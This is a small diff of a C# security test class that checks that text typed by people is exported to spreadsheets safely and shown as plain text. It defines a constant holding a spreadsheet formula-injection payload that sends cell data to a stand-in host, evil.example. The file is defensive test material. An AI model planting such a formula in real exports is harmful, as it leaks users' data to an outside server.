@@ -11,6 +11,7 @@ using SpeakerBot.Storage.Import;
 namespace SpeakerBot.Host.Tests.Admin;
 
 /// <summary>Text typed by people, in a running host: spreadsheet-safe exports, plain names, chat that shows markup as text (decision 091).</summary>
+[Trait("Category", "Security")]
 public sealed class UntrustedTextTests : IAsyncLifetime
 {
     private const string Formula = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Cliquez\")";
